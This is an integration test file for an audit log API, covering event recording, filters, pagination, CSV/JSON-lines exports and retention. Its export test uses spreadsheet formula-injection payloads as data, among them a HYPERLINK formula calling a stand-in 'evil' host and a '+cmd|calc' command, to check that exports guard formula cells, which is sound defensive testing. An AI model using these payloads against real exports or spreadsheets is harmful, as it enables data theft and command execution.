import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { sql } from 'kysely';
import WebSocket from 'ws';
import type { AuditRow } from '@streamspace/control-plane';
import { forEachDatabase, type FreshDatabase } from '../support/databases.js';
import { AGENT_TOKEN, startTestControlPlane, type TestControlPlane } from '../support/control-plane.js';
import { AgentSimulator, simulatorCredential } from '../support/agent-simulator.js';
import { waitFor } from '../support/wait-for.js';
import { parseCsv } from '../support/csv.js';

type Entry = AuditRow;

// Issue 12 §4: what is recorded, and GET /api/v1/audit (filters, cursor pages, exports, retention).
forEachDatabase('audit log', (target) => {
  let fresh: FreshDatabase;
  let cp: TestControlPlane;
  const agents: AgentSimulator[] = [];
  // Every request of the first test comes "through the proxy" with its own client address.
  let n = 0;
  const via = () => {
    const ip = `203.0.113.${++n}`;
    return { ip, headers: { 'x-forwarded-for': `198.51.100.77, ${ip}` } };
  };

  before(async () => {
    fresh = await target.fresh();
    cp = await (
      await startTestControlPlane(fresh, {
        env: { TRUST_PROXY: '127.0.0.1', AUDIT_RETENTION: '30d' },
        start: { pruneIntervalMs: 50 },
      })
    ).loginAsAdmin();
  });
  after(async () => {
    for (const agent of agents) await agent.close();
    await cp?.stop();
    await fresh?.close();
  });

  const audit = (query: Record<string, string>, token?: string) =>
    cp.api<{ entries: Entry[]; next_cursor: string | null }>('GET', `/api/v1/audit?${new URLSearchParams(query)}`, {
      ...(token === undefined ? {} : { token }),
    });
  const entries = async (query: Record<string, string>) => {
    const response = await audit(query);
    assert.equal(response.status, 200, JSON.stringify(response.body));
    return response.body.entries;
  };
  /** Inserts `count` entries in one statement: they share one timestamp (the transaction's). */
  const insertMany = (action: string, count: number) =>
    sql`INSERT INTO audit_log (actor, action, target_type, target_id)
        SELECT 'loader', ${action}, 'test', g::text FROM generate_series(1, ${count}::int) AS g`.execute(
      cp.cp.database.db,
    );
  const download = async (query: Record<string, string>) => {
    const response = await fetch(`${cp.url}/api/v1/audit?${new URLSearchParams(query)}`, {
      headers: { authorization: `Bearer ${cp.token}` },
    });
    assert.equal(response.status, 200);
    return { headers: response.headers, text: await response.text() };
  };

  test("every security event is recorded with actor, action, target and the client's address", async () => {
    const expected: Array<{ action: string; targetId: string; actor: string; ip: string }> = [];
    const expect = (action: string, targetId: string, actor: string, ip: string) =>
      expected.push({ action, targetId, actor, ip });
    const call = async (method: string, path: string, body?: unknown, token?: string | null) => {
      const { ip, headers } = via();
      const response = await cp.api(method, path, { body, headers, ...(token === undefined ? {} : { token }) });
      assert.ok(response.status < 300, `${method} ${path}: ${response.status} ${JSON.stringify(response.body)}`);
      return { ip, body: response.body };
    };
    const adminId = (await cp.api('GET', '/api/v1/auth/me')).body.id as string;

    // Logins, failed and successful.
    const failed = via();
    const wrong = await cp.api('POST', '/api/v1/auth/login', {
      body: { username: 'admin', password: 'not-the-password' },
      token: null,
      headers: failed.headers,
    });
    assert.equal(wrong.status, 401);
    expect('auth.login_failed', adminId, 'admin', failed.ip);
    const login = await call(
      'POST',
      '/api/v1/auth/login',
      { username: 'admin', password: 'admin-password-for-tests' },
      null,
    );
    expect('auth.login', adminId, 'admin', login.ip);

    // Users: create, role changes, disable and enable, delete.
    const created = await call('POST', '/api/v1/users', { username: 'audited', password: 'audited-password' });
    const userId = created.body.id as string;
    expect('user.create', userId, 'admin', created.ip);
    const promoted = await call('PATCH', `/api/v1/users/${userId}`, { role: 'admin' });
    expect('user.update', userId, 'admin', promoted.ip);
    expect('user.role_change', userId, 'admin', promoted.ip);
    const disabled = await call('PATCH', `/api/v1/users/${userId}`, { disabled: true });
    expect('user.disable', userId, 'admin', disabled.ip);
    const enabled = await call('PATCH', `/api/v1/users/${userId}`, { disabled: false });
    expect('user.enable', userId, 'admin', enabled.ip);
    const demotion = await call('PATCH', `/api/v1/users/${userId}`, { role: 'user' });
    expect('user.role_change', userId, 'admin', demotion.ip);

    // Templates.
    const template = await call('POST', '/api/v1/templates', { name: 'audited-app', display_name: 'A', image: 'x:1' });
    expect('template.create', 'audited-app', 'admin', template.ip);
    const changed = await call('PATCH', '/api/v1/templates/audited-app', { display_name: 'B' });
    expect('template.update', 'audited-app', 'admin', changed.ip);
    const dropped = await call('DELETE', '/api/v1/templates/audited-app');
    expect('template.delete', 'audited-app', 'admin', dropped.ip);

    // An agent enrolls (its address through the proxy too).
    const agentId = `audited-${target.name}`;
    const enroll = via();
    const agent = await AgentSimulator.connect(
      cp.wsUrl,
      { joinToken: AGENT_TOKEN, credential: simulatorCredential(agentId) },
      enroll.headers,
    );
    agents.push(agent);
    agent.send('register', {
      agent_id: agentId,
      platform: 'docker',
      version: 'simulator',
      capacity: { max_sessions: 0, max_cpu: 0, max_memory_gb: 0 },
      sessions: [],
    });
    await agent.next('registered');
    expect('agent.enroll', agentId, `agent:${agentId}`, enroll.ip);

    // A user's session: created, viewed by an admin, connected to, stopped, deleted.
    const userToken = await cp.login('audited', 'audited-password');
    const session = await call('POST', '/api/v1/sessions', { template: 'xterm' }, userToken);
    const sessionId = session.body.id as string;
    expect('session.create', sessionId, 'audited', session.ip);
    await agent.next('command', (m) => m.payload.session_id === sessionId);
    agent.reportStatus(sessionId, 'running');
    await waitFor(
      'running',
      async () => (await cp.api('GET', `/api/v1/sessions/${sessionId}`)).body.state === 'running',
    );
    const ticket = await call('POST', `/api/v1/sessions/${sessionId}/connect`);
    expect('session.view', sessionId, 'admin', ticket.ip);
    const viewer = via();
    const ws = new WebSocket(`${cp.url.replace('http', 'ws')}${ticket.body.path}`, ['binary'], {
      headers: viewer.headers,
    });
    // open_tunnel is sent after the connect was recorded.
    await agent.next('command', (m) => m.payload.session_id === sessionId && m.payload.type === 'open_tunnel');
    ws.close();
    expect('session.connect', sessionId, 'admin', viewer.ip);
    const stop = await call('PATCH', `/api/v1/sessions/${sessionId}`, { state: 'stopped' }, userToken);
    expect('session.stop', sessionId, 'audited', stop.ip);
    const deleted = await call('DELETE', `/api/v1/sessions/${sessionId}`, undefined, userToken);
    expect('session.delete', sessionId, 'audited', deleted.ip);
    await waitFor('no sessions left', async () =>
      (await cp.api('GET', '/api/v1/sessions?user=audited')).body.every(
        (s: { state: string }) => s.state === 'deleted',
      ),
    );
    const gone = await call('DELETE', `/api/v1/users/${userId}`);
    expect('user.delete', userId, 'admin', gone.ip);

    // The agent is revoked; a logout is recorded too.
    const revoked = await call('POST', `/api/v1/agents/${agentId}/revoke`);
    expect('agent.revoke', agentId, 'admin', revoked.ip);
    const other = await cp.login();
    const logout = await call('POST', '/api/v1/auth/logout', undefined, other);
    expect('auth.logout', adminId, 'admin', logout.ip);
    cp.token = await cp.login();

    for (const e of expected) {
      const found = (await entries({ action: e.action, target_id: e.targetId })).filter((r) => r.ip === e.ip);
      assert.equal(found.length, 1, `${e.action} on ${e.targetId} from ${e.ip}`);
      const [row] = found;
      assert.equal(row!.actor, e.actor, e.action);
      assert.ok(Math.abs(Date.parse(row!.at) - Date.now()) < 120_000, `${e.action}: recent time`);
    }
    const [demoted, roleChange] = await entries({ action: 'user.role_change', target_id: userId });
    assert.deepEqual(demoted!.details, { username: 'audited', from: 'admin', to: 'user' });
    assert.deepEqual(roleChange!.details, { username: 'audited', from: 'user', to: 'admin' });
    assert.equal(roleChange!.actor_user_id, adminId);
    assert.equal(roleChange!.target_type, 'user');
    const [enrolled] = await entries({ action: 'agent.enroll', target_id: agentId });
    assert.equal(enrolled!.actor_user_id, null);
    assert.equal(enrolled!.target_type, 'agent');
    assert.equal((await entries({ action: 'session.connect', target_id: sessionId })).length, 1, 'once per connection');
  });

  test('filters: actor by name or id, action exact or prefix, target, time range', async () => {
    const adminId = (await cp.api('GET', '/api/v1/auth/me')).body.id as string;
    const byName = await entries({ actor: 'admin', limit: '1000' });
    assert.ok(byName.length > 0 && byName.every((e) => e.actor === 'admin'));
    const byId = await entries({ actor: adminId, limit: '1000' });
    assert.ok(byId.length > 0 && byId.every((e) => e.actor_user_id === adminId || e.actor === adminId));

    const exact = await entries({ action: 'auth.login' });
    assert.ok(exact.length > 0 && exact.every((e) => e.action === 'auth.login'), 'exact: no auth.login_failed');
    const prefix = await entries({ action: 'auth.*', limit: '1000' });
    assert.deepEqual([...new Set(prefix.map((e) => e.action))].sort(), [
      'auth.login',
      'auth.login_failed',
      'auth.logout',
    ]);
    // `_` in a prefix is a literal underscore, not a LIKE wildcard.
    assert.ok((await entries({ action: 'auth.login_*' })).every((e) => e.action === 'auth.login_failed'));

    const targeted = await entries({ target_type: 'template', target_id: 'audited-app' });
    assert.deepEqual(
      targeted.map((e) => e.action),
      ['template.delete', 'template.update', 'template.create'],
    );

    // since is inclusive and until exclusive, to the microsecond the entry carries.
    const [update] = targeted.slice(1);
    assert.match(update!.at, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
    const around = (query: Record<string, string>) =>
      entries({ target_type: 'template', target_id: 'audited-app', ...query });
    assert.deepEqual(
      (await around({ since: update!.at })).map((e) => e.action),
      ['template.delete', 'template.update'],
    );
    assert.deepEqual(
      (await around({ until: update!.at })).map((e) => e.action),
      ['template.create'],
    );
    assert.deepEqual((await around({ since: update!.at, until: update!.at })).length, 0);
    const offset = new Date(Date.parse(update!.at) - 3_600_000).toISOString().replace('Z', '+00:00');
    assert.equal((await around({ since: offset })).length, 3, 'an offset form works too');
  });

  test('bad parameters are a 400 naming the parameter; non-admins get 403, strangers 401', async () => {
    const cases: Array<[Record<string, string>, RegExp]> = [
      [{ since: 'yesterday' }, /^since: expected an RFC 3339 time/],
      [{ until: '2026-02-30T00:00:00Z' }, /^until: expected an RFC 3339 time/],
      [{ limit: '0' }, /^limit: expected a whole number from 1 to 1000/],
      [{ limit: '1001' }, /^limit: /],
      [{ cursor: 'not-a-cursor' }, /^cursor: not a cursor/],
      [{ action: 'auth*.x' }, /^action: /],
      [{ format: 'xml' }, /format/],
      [{ colour: 'red' }, /colour/],
      [{ since: '2026-12-01T00:00:00Z', until: '2026-11-01T00:00:00Z' }, /since .* is after until/],
    ];
    for (const [query, message] of cases) {
      const response = await audit(query);
      assert.equal(response.status, 400, JSON.stringify(query));
      assert.match((response.body as unknown as { message: string }).message, message, JSON.stringify(query));
    }
    const userToken = await cp.createUser('not-an-auditor');
    assert.equal((await audit({}, userToken)).status, 403);
    assert.equal((await audit({ format: 'csv' }, userToken)).status, 403);
    assert.equal((await cp.api('GET', '/api/v1/audit', { token: null })).status, 401);
  });

  test('cursor pages return every entry exactly once, newest first, when entries share a timestamp', async () => {
    await insertMany('test.page', 95);
    await insertMany('test.page', 40);
    const all = await cp.cp.database.db
      .selectFrom('audit_log')
      .select(sql<string>`id::text`.as('id'))
      .where('action', '=', 'test.page')
      // Qualified: a bare `id` would sort by the selected text column ('99' after '125').
      .orderBy('audit_log.at', 'desc')
      .orderBy('audit_log.id', 'desc')
      .execute();
    assert.equal(all.length, 135);
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const response = await audit({ action: 'test.page', limit: '7', ...(cursor ? { cursor } : {}) });
      assert.equal(response.status, 200);
      assert.ok(response.body.entries.length <= 7);
      seen.push(...response.body.entries.map((e) => e.id));
      cursor = response.body.next_cursor;
      pages++;
      // A row written meanwhile (newer than every page) does not shift the pages.
      if (pages === 3) await insertMany('test.page', 1);
    } while (cursor);
    assert.equal(pages, Math.ceil(135 / 7));
    assert.equal(new Set(seen).size, seen.length, 'no duplicates');
    assert.deepEqual(
      seen,
      all.map((r) => r.id),
      'every row, in (at, id) descending order',
    );
  });

  test('CSV and JSON-lines exports: escaped, formula-guarded, and the same entries as the API', async () => {
    const nasty = [
      { actor: '=HYPERLINK("http://evil/?"&A1)', target_id: 'a,"b"\r\nc', ip: '-1' },
      { actor: '+cmd|calc', target_id: '@SUM(1)', ip: null },
      { actor: 'plain name', target_id: 'émoji 😀', ip: '2001:db8::1' },
    ];
    for (const row of nasty) {
      await cp.cp.database.db
        .insertInto('audit_log')
        .values({
          actor: row.actor,
          action: 'test.csv',
          target_type: 'test',
          target_id: row.target_id,
          ip: row.ip,
          details: JSON.stringify({ note: '=1+1', quote: 'say "hi"' }),
        })
        .execute();
    }
    const api = await entries({ action: 'test.csv' });
    assert.equal(api.length, 3);

    const csv = await download({ action: 'test.csv', format: 'csv' });
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(csv.headers.get('content-disposition') ?? '', /^attachment; filename="streamspace-audit-.*\.csv"$/);
    const [header, ...rows] = parseCsv(csv.text);
    assert.deepEqual(header, [
      'id',
      'at',
      'actor',
      'actor_user_id',
      'action',
      'target_type',
      'target_id',
      'ip',
      'details',
    ]);
    assert.equal(rows.length, 3);
    const unguard = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
    rows.forEach((cells, i) => {
      const entry = api[i]!;
      const record = Object.fromEntries(header!.map((name, j) => [name, cells[j]]));
      assert.equal(record.id, entry.id);
      assert.equal(record.at, entry.at);
      assert.equal(unguard(record.actor!), entry.actor);
      assert.equal(unguard(record.target_id!), entry.target_id);
      assert.equal(unguard(record.ip!), entry.ip ?? '');
      assert.deepEqual(JSON.parse(record.details!), entry.details);
      for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@]/, 'no cell starts a formula');
    });
    const byActor = new Map(rows.map((cells) => [unguard(cells[2]!), cells]));
    assert.equal(byActor.get('+cmd|calc')![2], "'+cmd|calc");
    assert.equal(byActor.get('=HYPERLINK("http://evil/?"&A1)')![6], 'a,"b"\r\nc', 'commas, quotes, newlines kept');
    assert.equal(byActor.get('=HYPERLINK("http://evil/?"&A1)')![7], "'-1");

    const jsonl = await download({ action: 'test.csv', format: 'jsonl' });
    assert.match(jsonl.headers.get('content-type') ?? '', /^application\/x-ndjson/);
    assert.match(jsonl.headers.get('content-disposition') ?? '', /^attachment; filename=".*\.jsonl"$/);
    const lines = jsonl.text.trimEnd().split('\n');
    assert.deepEqual(
      lines.map((line) => JSON.parse(line)),
      api,
    );

    // Each export is itself recorded: who took which entries.
    const [exported] = await entries({ action: 'audit.export' });
    assert.equal(exported!.actor, 'admin');
    assert.equal(exported!.target_type, 'audit_log');
    assert.deepEqual(exported!.details, { format: 'jsonl', filters: { action: 'test.csv' } });
  });

  test('an export holds every matching entry, far more than one page', async () => {
    await insertMany('test.bulk', 1_300);
    await insertMany('test.bulk', 1_250);
    const csv = await download({ action: 'test.bulk', format: 'csv', limit: '5' });
    const rows = parseCsv(csv.text).slice(1);
    assert.equal(rows.length, 2_550);
    assert.equal(new Set(rows.map((r) => r[0])).size, 2_550, 'no entry twice across export batches');
    const jsonl = await download({ action: 'test.bulk', format: 'jsonl' });
    const ids = jsonl.text
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as Entry).id);
    assert.deepEqual(
      ids,
      rows.map((r) => r[0]),
    );
  });

  test('AUDIT_RETENTION: entries older than it are pruned by maintenance; younger ones stay', async () => {
    const insertAged = (days: number) =>
      sql`INSERT INTO audit_log (at, actor, action, target_type, target_id)
          VALUES (NOW() - ${days}::int * INTERVAL '1 day', 'loader', 'test.aged', 'test', ${String(days)})`.execute(
        cp.cp.database.db,
      );
    await insertAged(31);
    await insertAged(29);
    await waitFor('the 31-day-old entry pruned', async () => {
      const left = await entries({ action: 'test.aged' });
      return left.length === 1 && left[0]!.target_id === '29';
    });
  });
});
